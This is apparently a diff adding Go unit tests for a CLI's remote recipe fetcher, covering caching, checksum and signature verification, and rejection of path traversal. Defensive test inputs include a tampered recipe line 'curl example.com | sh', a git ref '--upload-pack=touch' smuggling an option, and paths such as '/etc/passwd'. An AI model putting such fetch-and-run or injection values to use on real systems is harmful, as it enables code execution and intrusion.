@@ -0,0 +1,284 @@
+// +build unit
+
+package recipes
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"context"
+	"crypto/ed25519"
+	"crypto/rand"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"io/ioutil"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/newrelic/newrelic-cli/internal/install/types"
+)
+
+var remoteTestRecipe = `name: remote-recipe
+displayName: Remote recipe
+install:
+  version: "3"
+  tasks:
+    default:
+      cmds:
+        - echo hello
+`
+
+func TestRemoteRecipeFetcher_Tarball(t *testing.T) {
+	tarball := testTarball(t, map[string]string{
+		"recipes-1.0/recipes/remote.yml": remoteTestRecipe,
+	})
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		_, _ = w.Write(tarball)
+	}))
+	defer server.Close()
+
+	f, cleanup := testRemoteRecipeFetcher(t, types.RecipeSource{URL: server.URL + "/recipes.tar.gz"})
+	defer cleanup()
+
+	recipes, err := f.FetchRecipes(context.Background())
+	require.NoError(t, err)
+	require.Len(t, recipes, 1)
+	require.Equal(t, "remote-recipe", recipes[0].Name)
+
+	_, err = os.Stat(filepath.Join(f.cachePath(), "recipes", "remote.yml"))
+	require.NoError(t, err)
+}
+
+func TestRemoteRecipeFetcher_UsesCacheWhenUnreachable(t *testing.T) {
+	tarball := testTarball(t, map[string]string{
+		"remote.yml": remoteTestRecipe,
+	})
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		_, _ = w.Write(tarball)
+	}))
+
+	f, cleanup := testRemoteRecipeFetcher(t, types.RecipeSource{URL: server.URL + "/recipes.tgz"})
+	defer cleanup()
+
+	_, err := f.FetchRecipes(context.Background())
+	require.NoError(t, err)
+
+	server.Close()
+
+	recipes, err := f.FetchRecipes(context.Background())
+	require.NoError(t, err)
+	require.Len(t, recipes, 1)
+
+	f.Source.Ref = "v2"
+	_, err = f.FetchRecipes(context.Background())
+	require.Error(t, err)
+}
+
+func TestRemoteRecipeFetcher_FailedVerificationKeepsCache(t *testing.T) {
+	files := map[string]string{
+		"remote.yml":    remoteTestRecipe,
+		"checksums.txt": checksumLine("remote.yml", remoteTestRecipe),
+	}
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		_, _ = w.Write(testTarball(t, files))
+	}))
+	defer server.Close()
+
+	source := types.RecipeSource{URL: server.URL + "/recipes.tar.gz", Checksums: "checksums.txt"}
+	f, cleanup := testRemoteRecipeFetcher(t, source)
+	defer cleanup()
+
+	_, err := f.FetchRecipes(context.Background())
+	require.NoError(t, err)
+
+	files["remote.yml"] = remoteTestRecipe + "        - curl example.com | sh\n"
+
+	require.Error(t, f.fetch(context.Background(), f.cachePath()))
+
+	cached, err := ioutil.ReadFile(filepath.Join(f.cachePath(), "remote.yml"))
+	require.NoError(t, err)
+	require.Equal(t, remoteTestRecipe, string(cached))
+}
+
+func TestRemoteRecipeFetcher_UnsupportedSource(t *testing.T) {
+	f, cleanup := testRemoteRecipeFetcher(t, types.RecipeSource{URL: "https://example.com/recipes.zip"})
+	defer cleanup()
+
+	_, err := f.FetchRecipes(context.Background())
+	require.Error(t, err)
+}
+
+func TestRemoteRecipeFetcher_Git(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git is not installed")
+	}
+
+	repo, err := ioutil.TempDir("", "newrelic-recipe-repo")
+	require.NoError(t, err)
+	defer os.RemoveAll(repo)
+
+	err = ioutil.WriteFile(filepath.Join(repo, "remote.yml"), []byte(remoteTestRecipe), 0600)
+	require.NoError(t, err)
+
+	for _, args := range [][]string{
+		{"init", "--quiet"},
+		{"add", "remote.yml"},
+		{"-c", "user.name=test", "-c", "user.email=test@example.com", "commit", "--quiet", "-m", "recipes"},
+		{"tag", "v1"},
+	} {
+		require.NoError(t, runGit(context.Background(), repo, args...))
+	}
+
+	f, cleanup := testRemoteRecipeFetcher(t, types.RecipeSource{URL: "git+file://" + filepath.ToSlash(repo), Ref: "v1"})
+	defer cleanup()
+
+	recipes, err := f.FetchRecipes(context.Background())
+	require.NoError(t, err)
+	require.Len(t, recipes, 1)
+	require.Equal(t, "remote-recipe", recipes[0].Name)
+}
+
+func TestRemoteRecipeFetcher_GitRejectsOptionRef(t *testing.T) {
+	f, cleanup := testRemoteRecipeFetcher(t, types.RecipeSource{URL: "git+https://example.com/recipes.git", Ref: "--upload-pack=touch"})
+	defer cleanup()
+
+	dir, err := ioutil.TempDir("", "newrelic-recipe-source")
+	require.NoError(t, err)
+	defer os.RemoveAll(dir)
+
+	err = f.fetchGit(context.Background(), dir)
+	require.Error(t, err)
+	require.Contains(t, err.Error(), "invalid recipe source ref")
+}
+
+func TestExtractTarball_RejectsPathsOutsideSource(t *testing.T) {
+	dir, err := ioutil.TempDir("", "newrelic-recipe-source")
+	require.NoError(t, err)
+	defer os.RemoveAll(dir)
+
+	tarball := testTarball(t, map[string]string{
+		"../escaped.yml": remoteTestRecipe,
+	})
+
+	err = ExtractTarball(bytes.NewReader(tarball), dir)
+	require.Error(t, err)
+}
+
+func TestRecipeSourceVerifier(t *testing.T) {
+	pub, priv, err := ed25519.GenerateKey(rand.Reader)
+	require.NoError(t, err)
+
+	manifest := checksumLine("remote.yml", remoteTestRecipe)
+	signature := base64.StdEncoding.EncodeToString(ed25519.Sign(priv, []byte(manifest)))
+
+	tests := map[string]struct {
+		files map[string]string
+		err   bool
+	}{
+		"valid": {
+			files: map[string]string{"remote.yml": remoteTestRecipe, "checksums.txt": manifest, "checksums.txt.sig": signature},
+		},
+		"modified recipe": {
+			files: map[string]string{"remote.yml": remoteTestRecipe + "#", "checksums.txt": manifest, "checksums.txt.sig": signature},
+			err:   true,
+		},
+		"unlisted recipe": {
+			files: map[string]string{"remote.yml": remoteTestRecipe, "other.yml": remoteTestRecipe, "checksums.txt": manifest, "checksums.txt.sig": signature},
+			err:   true,
+		},
+		"missing signature": {
+			files: map[string]string{"remote.yml": remoteTestRecipe, "checksums.txt": manifest},
+			err:   true,
+		},
+		"invalid signature": {
+			files: map[string]string{"remote.yml": remoteTestRecipe, "checksums.txt": manifest + "\n", "checksums.txt.sig": signature},
+			err:   true,
+		},
+	}
+
+	for name, tc := range tests {
+		t.Run(name, func(t *testing.T) {
+			dir, err := ioutil.TempDir("", "newrelic-recipe-source")
+			require.NoError(t, err)
+			defer os.RemoveAll(dir)
+
+			for path, content := range tc.files {
+				require.NoError(t, ioutil.WriteFile(filepath.Join(dir, path), []byte(content), 0600))
+			}
+
+			v := RecipeSourceVerifier{
+				Checksums: "checksums.txt",
+				PublicKey: base64.StdEncoding.EncodeToString(pub),
+			}
+
+			err = v.Verify(dir)
+			if tc.err {
+				require.Error(t, err)
+			} else {
+				require.NoError(t, err)
+			}
+		})
+	}
+}
+
+func TestParseChecksums_RejectsPathsOutsideSource(t *testing.T) {
+	sum := strings.Repeat("0", 64)
+
+	for _, name := range []string{"..", "../remote.yml", "recipes/../../remote.yml", "/etc/passwd"} {
+		_, err := parseChecksums([]byte(sum + "  " + name + "\n"))
+		require.Error(t, err, name)
+	}
+
+	checksums, err := parseChecksums([]byte(sum + "  recipes/../remote.yml\n"))
+	require.NoError(t, err)
+	require.Equal(t, sum, checksums["remote.yml"])
+}
+
+func testRemoteRecipeFetcher(t *testing.T, source types.RecipeSource) (*RemoteRecipeFetcher, func()) {
+	dir, err := ioutil.TempDir("", "newrelic-recipe-cache")
+	require.NoError(t, err)
+
+	f := NewRemoteRecipeFetcher(source)
+	f.CacheDir = dir
+
+	return f, func() { os.RemoveAll(dir) }
+}
+
+func testTarball(t *testing.T, files map[string]string) []byte {
+	var buf bytes.Buffer
+
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+
+	for name, content := range files {
+		err := tw.WriteHeader(&tar.Header{
+			Name:     name,
+			Mode:     0600,
+			Size:     int64(len(content)),
+			Typeflag: tar.TypeReg,
+		})
+		require.NoError(t, err)
+
+		_, err = tw.Write([]byte(content))
+		require.NoError(t, err)
+	}
+
+	require.NoError(t, tw.Close())
+	require.NoError(t, gz.Close())
+
+	return buf.Bytes()
+}
+
+func checksumLine(name string, content string) string {
+	sum := sha256.Sum256([]byte(content))
+	return fmt.Sprintf("%s  %s\n", hex.EncodeToString(sum[:]), name)
+}